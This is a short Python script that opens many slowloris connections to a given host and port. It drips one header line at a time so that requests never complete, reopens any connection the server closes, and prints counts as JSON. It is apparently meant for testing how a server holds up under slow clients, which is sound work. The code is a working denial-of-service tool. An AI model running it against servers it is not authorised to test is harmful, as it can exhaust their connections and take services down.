"""Opens N slow connections (slowloris) to a host and keeps them open: each sends a request line and then one header line every
INTERVAL seconds, never ending its headers. A connection the server closes is counted and opened again. Prints a JSON line of
counts every 5 s to stdout.
    python3 slow-clients.py <host> <port> <connections> [interval seconds]"""
import asyncio, json, sys, time

host, port, total = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
interval = float(sys.argv[4]) if len(sys.argv) > 4 else 10.0
counts = {"open": 0, "closedByServer": 0, "refused": 0}


async def one(index):
    await asyncio.sleep(index * 0.002)  # 2,000 connections over 4 s
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            counts["refused"] += 1
            await asyncio.sleep(1)
            continue
        counts["open"] += 1
        try:
            writer.write(f"GET /health/live HTTP/1.1\r\nHost: {host}\r\n".encode())
            await writer.drain()
            n = 0
            while True:
                # Read with a timeout: a closed socket shows as EOF.
                try:
                    data = await asyncio.wait_for(reader.read(1), timeout=interval)
                    if not data:
                        break
                except asyncio.TimeoutError:
                    pass
                writer.write(f"X-Slow-{n}: {n}\r\n".encode())
                await writer.drain()
                n += 1
        except OSError:
            pass
        finally:
            counts["open"] -= 1
            counts["closedByServer"] += 1
            writer.close()


async def report():
    start = time.monotonic()
    while True:
        await asyncio.sleep(5)
        print(json.dumps({"seconds": round(time.monotonic() - start), **counts}), flush=True)


async def main():
    await asyncio.gather(report(), *(one(i) for i in range(total)))

asyncio.run(main())
